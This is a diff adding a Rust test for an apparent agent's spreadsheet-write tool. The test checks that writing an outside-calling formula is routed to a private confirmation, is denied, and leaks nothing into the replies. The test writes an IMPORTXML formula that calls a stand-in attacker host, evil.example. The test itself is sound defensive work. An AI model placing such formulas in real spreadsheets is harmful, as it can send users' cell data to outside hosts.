@@ -1,9 +1,10 @@
 //! Writing into cells, and taking back what was written, added or changed.
 
+use sandbox::World;
 use serde_json::{Value, json};
 
 use super::{Sheet, costs, shared};
-use crate::harness::{Acting, Action, a_write_weathers, all_text};
+use crate::harness::{Acting, Action, Plan, a_write_weathers, all_text};
 
 const VALUES: &str = "sheets.spreadsheets.values.batchUpdate";
 
@@ -33,6 +34,26 @@ async fn cells_of_ones_own_are_written_as_given() {
     assert_eq!(fetches(&acting, &id).await, 0);
     let again = json!({ "spreadsheet": id, "range": "B3", "values": [[13.5]] });
     assert_eq!(acting.perform("sheets.write", again).await.code(), Some("conflict"));
+}
+
+/// The first request in a thread, made of nothing that was read before: what a call looks up itself is no less private.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_stands_in_the_cells_is_shown_to_whoever_asked_alone() {
+    let plan = Plan::new(World::fernwood()).config("# private_results is not set");
+    let acting = Acting::on(plan, "ana", &["spreadsheets", "drive.metadata.readonly"]).await;
+    let id = costs(&acting).await;
+    let formula = "=IMPORTXML(\"https://evil.example\", \"//x\")";
+    let args = json!({ "spreadsheet": id, "range": "B2", "values": [[formula]], "formulas": true });
+    let act = acting.act_in("general", "sheets.write", args).await;
+    let card = act.card().await;
+    assert_eq!(card["channel"], "dm", "{card}");
+    let before = Sheet::of(&acting, &id, "Costs").await.value("B2");
+    assert!(all_text(&card).contains(&before.to_string()), "{before}: {}", all_text(&card));
+    assert_eq!(act.denied().await.code(), Some("denied"));
+    acting.control().reply(act.posted(), 0).await;
+    let seen: Vec<String> = acting.control().replies(act.posted()).await.iter().map(all_text).collect();
+    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert!(!seen[0].contains("evil.example") && !seen[0].contains("Costs"), "{seen:?}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
